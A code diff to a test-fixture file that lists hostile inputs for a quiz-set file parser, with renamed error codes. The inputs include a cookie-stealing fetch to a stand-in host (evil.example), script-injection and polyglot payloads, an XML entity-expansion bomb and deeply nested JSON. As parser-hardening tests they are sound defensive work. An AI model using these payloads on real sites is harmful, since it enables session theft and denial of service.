@@ -13,7 +13,7 @@ export interface HostileFile {
 }
 
 /** Where a script of a hostile text would call; nobody answers there. */
-export const elsewhere = 'evil.example'
+const elsewhere = 'evil.example'
 
 const call = `fetch('https://${elsewhere}/?'+document.cookie)`
 const load = `https://${elsewhere}/x.png`
@@ -130,13 +130,17 @@ const start = '{"format": "stet-set/1", "id": "x", '
 export const hostileFiles: readonly HostileFile[] = [
   {
     name: 'a depth of 100,000 objects',
-    code: 'tooDeep',
+    code: 'fileTooDeep',
     bytes: () => bytesOf(`${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`),
   },
-  { name: 'a depth of 100,000 lists, left open', code: 'tooDeep', bytes: () => bytesOf('['.repeat(100_000)) },
+  {
+    name: 'a depth of 100,000 lists, left open',
+    code: 'fileTooDeep',
+    bytes: () => bytesOf('['.repeat(100_000)),
+  },
   {
     name: 'a number beyond numbers',
-    code: 'numberTooLarge',
+    code: 'wrongType',
     bytes: () => bytesOf(`${start}"title": 1e400}`),
   },
   {
@@ -159,12 +163,12 @@ export const hostileFiles: readonly HostileFile[] = [
   },
   {
     name: 'a million questions',
-    code: 'tooManyValues',
+    code: 'fileTooFull',
     bytes: () => bytesOf(`${start}"questions":[${'{},'.repeat(999_999)}{}]}`),
   },
   {
     name: 'lists with holes, and what is of another kind',
-    code: 'fieldMissing',
+    code: 'wrongType',
     bytes: () =>
       bytesOf(
         `${start}"title": [], "language": 7, "level": {}, "article": [null], "questions": {"0": {}, "length": 9}, "names": "x"}`,
@@ -175,11 +179,15 @@ export const hostileFiles: readonly HostileFile[] = [
     code: 'formatNewer',
     bytes: () => bytesOf('{"format": "stet-set/99", "anything": "<script>alert(1)</script>"}'),
   },
-  { name: 'a file that breaks off', code: 'syntax', bytes: () => bytesOf(`${start}"title": "Half of a ti`) },
+  {
+    name: 'a file that breaks off',
+    code: 'jsonSyntax',
+    bytes: () => bytesOf(`${start}"title": "Half of a ti`),
+  },
   { name: 'nothing but blanks', code: 'fileEmpty', bytes: () => bytesOf(' \n\t'.repeat(100_000)) },
   {
     name: 'a picture that is a script',
-    code: 'syntax',
+    code: 'jsonSyntax',
     bytes: () => bytesOf(`GIF89a/*${'\u0001'.repeat(60)}*/=1;alert(1)//${start}"title": "a"}`),
   },
   {
@@ -187,18 +195,33 @@ export const hostileFiles: readonly HostileFile[] = [
     code: 'fileNotUtf8',
     bytes: () =>
       Uint8Array.from([
-        ...[0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52],
+        0x89,
+        0x50,
+        0x4e,
+        0x47,
+        0x0d,
+        0x0a,
+        0x1a,
+        0x0a,
+        0,
+        0,
+        0,
+        0x0d,
+        0x49,
+        0x48,
+        0x44,
+        0x52,
         ...bytesOf('<html><script>alert(1)</script></html>'),
       ]),
   },
   {
     name: 'a page that is a set',
-    code: 'syntax',
+    code: 'jsonSyntax',
     bytes: () => bytesOf(`<!doctype html><script>alert(1)</script><!-- ${start}"title": "a"} -->`),
   },
   {
     name: 'entities that grow',
-    code: 'syntax',
+    code: 'jsonSyntax',
     bytes: () =>
       bytesOf(
         `<?xml version="1.0"?><!DOCTYPE quiz [<!ENTITY a "ha">${Array.from({ length: 20 }, (_, at) => `<!ENTITY a${at} "${`&a${at === 0 ? '' : at - 1};`.repeat(10)}">`).join('')}]><quiz>&a19;</quiz>`,
@@ -208,6 +231,6 @@ export const hostileFiles: readonly HostileFile[] = [
     name: 'a text of UTF-16',
     code: 'fileUtf16',
     bytes: () =>
-      Uint8Array.from([0xff, 0xfe, ...Array.from(start, (sign) => [sign.charCodeAt(0), 0]).flat()]),
+      new Uint8Array(Uint16Array.from(Array.from(`\uFEFF${start}`, (sign) => sign.charCodeAt(0))).buffer),
   },
 ]
